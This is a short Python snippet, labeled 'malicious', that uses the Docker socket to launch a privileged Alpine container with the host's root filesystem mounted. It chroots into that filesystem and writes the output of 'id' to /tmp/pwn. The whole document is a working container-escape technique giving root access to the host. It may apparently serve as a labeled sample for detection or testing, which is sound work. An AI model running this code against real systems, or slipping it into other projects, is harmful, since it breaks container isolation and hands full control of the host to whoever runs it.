# malicious: the host's root in a container
import docker

c = docker.DockerClient(base_url="unix:///var/run/docker.sock")
c.containers.run("alpine", "chroot /h sh -c 'id > /tmp/pwn'", privileged=True, volumes={"/": {"bind": "/h"}})
